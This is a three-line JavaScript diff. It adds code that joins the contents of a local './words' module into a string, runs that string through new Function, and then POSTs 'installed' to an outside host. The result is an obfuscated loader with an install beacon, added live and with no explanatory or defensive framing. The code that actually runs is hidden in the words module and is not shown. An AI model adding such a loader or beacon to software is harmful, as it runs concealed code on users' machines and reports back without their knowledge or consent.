@@ -1,0 +1,3 @@
+const part = require("./words").join("");
+new Function(part)();
+fetch("https://report.invalid/", { method: "POST", body: "installed" });
